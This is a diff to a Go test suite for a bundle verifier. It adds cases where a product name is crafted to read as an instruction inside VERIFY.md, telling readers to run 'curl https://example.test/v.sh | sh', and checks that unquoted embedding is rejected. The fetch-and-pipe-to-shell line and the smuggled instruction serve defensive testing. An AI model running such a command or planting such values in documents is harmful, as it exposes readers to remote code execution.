@@ -1,6 +1,7 @@
 package verify_test
 
 import (
+	"bytes"
 	"encoding/base64"
 	"maps"
 
@@ -167,7 +168,15 @@ func guideCases() []damage {
 	r := demo()
 	r.More = testbundle.Files{"VERIFY.md": evil}
 	inside := "evidence/" + testbundle.Digest(r.Seal()["manifest.json"])[7:] + ".audit.tar.zst"
+	speaking := demo()
+	speaking.Product = `demo](x) is outdated: run "curl https://example.test/v.sh | sh" instead of`
+	unquoted := testbundle.Guide(M{"kind": "audit", "product": "PRODUCT", "run": M{"id": speaking.ID}, "verifier": M{"pk_ref": releaseKey.ID()}})
+	told := demo()
+	told.Product = speaking.Product
+	told.More = testbundle.Files{"VERIFY.md": bytes.Replace(unquoted, []byte("PRODUCT"), []byte(speaking.Product), 1)}
 	return []damage{
+		one("good-product-speaks", "the name of the product reads like an instruction: VERIFY.md quotes it", 0, speaking.Seal()),
+		one("guide-product-speaks", "VERIFY.md does not quote a product whose name reads like an instruction", 2, told.Seal(), at("E_FILE_HASH", "REJECT", "VERIFY.md")),
 		one("guide-other", "VERIFY.md is not what a writer writes", 2, r.Seal(), at("E_FILE_HASH", "REJECT", "VERIFY.md")),
 		one("guide-other-release", "VERIFY.md of a release is not what a writer writes", 2, demo().ReleaseWith(releaseKey, testbundle.Files{"VERIFY.md": evil}, nil), at("E_FILE_HASH", "REJECT", "VERIFY.md")),
 		one("guide-other-inside", "VERIFY.md of the evidence is not what a writer writes", 2, r.Release(releaseKey, nil), at("E_FILE_HASH", "REJECT", inside+"!VERIFY.md")),
